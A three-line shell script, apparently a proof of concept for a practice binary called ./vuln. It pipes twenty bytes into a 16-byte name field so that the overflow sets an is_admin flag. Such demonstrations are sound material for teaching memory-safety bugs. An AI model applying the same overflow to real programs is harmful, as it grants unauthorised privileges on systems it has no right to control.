#!/bin/sh
# Twenty bytes overflow the 16-byte name into is_admin.
printf 'AAAAAAAAAAAAAAAAAAAA\n' | ./vuln
